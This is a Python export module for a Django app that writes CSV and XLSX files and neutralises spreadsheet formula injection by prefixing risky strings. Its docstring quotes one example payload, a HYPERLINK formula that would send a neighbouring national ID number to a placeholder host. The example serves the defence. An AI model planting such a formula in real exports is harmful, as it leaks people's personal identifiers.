"""The one writer every export goes through (CSV and XLSX).

A cell that starts with `=`, `+`, `-`, `@`, tab or CR is read as a formula by Excel and
LibreOffice (CSV injection): a youth named `=HYPERLINK("http://x/?"&C2,"Vis")` would become a
live link that sends the neighbouring fødselsnummer away. Both writers therefore prefix such
strings with `'` (OWASP's advice). In XLSX every string is also stored as a text cell
(`data_type="s"`), which is inert on its own; we prefix there too so that a later "save as CSV"
from Excel stays safe. Only strings are touched: numbers and dates keep their types.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable, Sequence
from typing import IO

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: str) -> str:
    """A string that no spreadsheet will evaluate as a formula."""
    return "'" + value if value.startswith(FORMULA_PREFIXES) else value


def _csv_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    if isinstance(value, bool):
        return "ja" if value else "nei"
    if isinstance(value, int | float):
        return str(value)
    return neutralise(str(value))


def write_csv(
    stream: IO[str],
    header: Sequence[str],
    rows: Iterable[Sequence],
    *,
    delimiter: str = ",",
    lineterminator: str = "\r\n",
) -> int:
    """Write `header` and `rows` to a text stream; returns the number of rows written."""
    writer = csv.writer(stream, delimiter=delimiter, lineterminator=lineterminator)
    writer.writerow([_csv_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([_csv_cell(v) for v in row])
        count += 1
    return count


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence]) -> HttpResponse:
    """A CSV download for Excel in Norway: UTF-8 with BOM, `;` between fields."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    write_csv(response, header, rows, delimiter=";")
    return response


def xlsx_response(
    filename: str, sheet_title: str, header: Sequence[str], rows: Iterable[Sequence]
) -> HttpResponse:
    """An XLSX download: strings as text cells (never formulas), dates as dates, numbers as numbers."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_title)

    def cell(value):
        if value is None:
            return None
        if isinstance(value, bool):
            value = "ja" if value else "nei"
        if isinstance(value, dt.datetime) and timezone.is_aware(value):
            return timezone.make_naive(value)  # XLSX has no time zones: Oslo time
        if isinstance(value, int | float | dt.date):
            return value
        # Control characters make the file unreadable; a neutralised string is never a formula,
        # and data_type "s" says so explicitly.
        text = WriteOnlyCell(sheet, value=neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value))))
        text.data_type = "s"
        return text

    sheet.append(list(header))
    for row in rows:
        sheet.append([cell(v) for v in row])
    response = HttpResponse(content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    book.save(response)
    return response
